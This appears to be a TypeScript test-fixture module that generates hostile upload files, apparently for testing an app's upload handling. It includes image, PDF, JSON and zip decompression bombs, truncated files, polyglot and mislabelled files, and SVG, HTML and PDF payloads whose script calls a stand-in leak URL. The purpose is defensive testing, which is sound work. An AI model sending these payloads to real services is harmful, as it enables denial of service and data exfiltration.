/** Files that are made to do harm: to take all memory, to run, to reach the network, or to be taken for something else. */
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { PNG } from 'pngjs';
import { isoBox, words } from './iso-boxes';
import { pdfOf } from './pdfs';
import { movieOf } from './recordings';
import { avifOf, gifOfFrames } from './stills';
import { jpegWith, plainJpeg, plainPng, withMarkedCorner } from './turned-pictures';

const script = 'document.title = "ran"; fetch("https://example.com/leak"); alert("ran")';

/** A picture of a few bytes that says it is of 60,000 by 60,000 px. */
function pictureBomb(): Buffer {
  const png = PNG.sync.write(new PNG({ width: 4, height: 4 }));
  png.writeUInt32BE(60_000, 16);
  png.writeUInt32BE(60_000, 20);
  // With its checksum put right it is taken at its word.
  png.writeUInt32BE(checksum(png.subarray(12, 29)), 29);
  return png;
}

/** A picture that says the same of itself, behind more of what decoders pass over than anybody reads at first. */
function paddedBomb(): Buffer {
  const photo = plainJpeg(withMarkedCorner(8, 8));
  const frame = photo.indexOf(Buffer.from([0xff, 0xc0]));
  photo.writeUInt16BE(60_000, frame + 5);
  photo.writeUInt16BE(60_000, frame + 7);
  const padding = Buffer.alloc(65_537);
  padding.writeUInt32BE(0xffe2ffff, 0);
  return jpegWith(photo, ...Array.from({ length: 6 }, () => padding));
}

const sky = { width: 60_000, height: 60_000 };
const card = { width: 40, height: 30 };
const large = { width: 4000, height: 4000 };
const heic = readFileSync('tests/fixtures/pictures/quarters.heic');

/** AVIF whose first quarter of a megabyte says that it is a card. */
function hiddenBomb(): Buffer {
  return avifOf(sky, sky, isoBox('free', isoBox('ispe', words(0, card.width, card.height)), Buffer.alloc(300_000)));
}

/** A telephone's picture with each of its sizes written over. */
function heicBomb(): Buffer {
  const bytes = Buffer.from(heic);
  for (let at = bytes.indexOf('ispe'); at >= 0; at = bytes.indexOf('ispe', at + 4)) {
    bytes.writeUInt32BE(sky.width, at + 8);
    bytes.writeUInt32BE(sky.height, at + 12);
  }
  return bytes;
}

/** A picture as a chat sends it, which says that it is as large as its format lets it be, and is cut off. */
const webpBomb = Buffer.from('RIFF\x24\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\x3f\0\xff\x3f\0nothing', 'latin1');

function checksum(bytes: Uint8Array): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}

/** A page as long as the sky, with more pages than there are, that would open an address and run a script. */
function pdfThatActs(): Buffer {
  const action = `/OpenAction << /S /JavaScript /JS (app.alert\\('ran'\\); this.submitForm\\('https://example.com/leak'\\)) >>`;
  const text = pdfOf(['检验报告']).toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${action}`);
  return Buffer.from(text.replace('[0 0 595 842]', '[0 0 595 9e9]').replace('/Count 1', '/Count 999999999'), 'latin1');
}

/** A PDF whose page unpacks to a gigabyte. */
function pdfBomb(): Buffer {
  const inner = deflateSync(Buffer.alloc(64 * 1024 * 1024));
  const outer = deflateSync(inner);
  const stream = `<< /Length ${outer.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${outer.toString('latin1')}\nendstream`;
  const text = pdfOf(['检验报告']).toString('latin1');
  return Buffer.from(
    text.replace(/<< \/Length[\s\S]*?endstream/, () => stream),
    'latin1',
  );
}

export interface HostileFile {
  name: string;
  content: Buffer;
}

export const hostileFiles: readonly HostileFile[] = [
  { name: 'bomb.png', content: pictureBomb() },
  { name: 'padded.jpg', content: paddedBomb() },
  // Of one point, with a first frame that windows make room for; and with a second one, that they do not.
  { name: 'frame.gif', content: gifOfFrames({ width: 1, height: 1 }, [sky]) },
  { name: 'second.gif', content: gifOfFrames(card, [card, sky]) },
  { name: 'frames.gif', content: gifOfFrames(large, Array<typeof large>(20_000).fill(large)) },
  { name: 'bomb.webp', content: webpBomb },
  { name: 'bomb.avif', content: avifOf(sky) },
  { name: 'hidden.avif', content: hiddenBomb() },
  // A card that unpacks to 270 megapixels.
  { name: 'unfolds.avif', content: avifOf(card, { width: 16_384, height: 16_384 }) },
  { name: 'bomb.heic', content: heicBomb() },
  { name: 'cut.jpg', content: Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex') },
  { name: 'cut.png', content: plainPng(withMarkedCorner(8, 8)).subarray(0, 40) },
  { name: 'cut.gif', content: gifOfFrames(card, [card]).subarray(0, 40) },
  { name: 'cut.avif', content: avifOf(card).subarray(0, -20) },
  { name: 'cut.heic', content: heic.subarray(0, heic.length / 2) },
  {
    name: 'drawing.svg',
    content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`),
  },
  {
    name: 'page.html',
    content: Buffer.from(`<!doctype html><img src="https://example.com/x.png"><script>${script}</script>`),
  },
  // A GIF that is a script too, and a picture's name over a page.
  { name: 'both.gif', content: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${script}`, 'latin1') },
  { name: 'page.png', content: Buffer.from(`<html><script>${script}</script></html>`) },
  { name: 'acts.pdf', content: pdfThatActs() },
  { name: 'bomb.pdf', content: pdfBomb() },
  { name: 'both.pdf', content: Buffer.concat([pdfOf(['x']), Buffer.from(zipSync({ 'a.html': strToU8(script) }))]) },
  { name: 'film.mp4', content: Buffer.concat([movieOf('avc1', 30).subarray(0, 300), Buffer.alloc(4000, 0xff)]) },
  {
    name: 'film.webm',
    content: Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.from('webm'), Buffer.alloc(4000, 0x7f)]),
  },
  { name: 'sound.mp3', content: Buffer.concat([Buffer.from('ID3'), Buffer.alloc(4000, 0xff)]) },
  { name: 'deep.json', content: Buffer.from('['.repeat(2_000_000)) },
  { name: 'many.zip', content: Buffer.from(zipSync({ 'zeros.bin': new Uint8Array(50 * 1024 * 1024) })) },
];
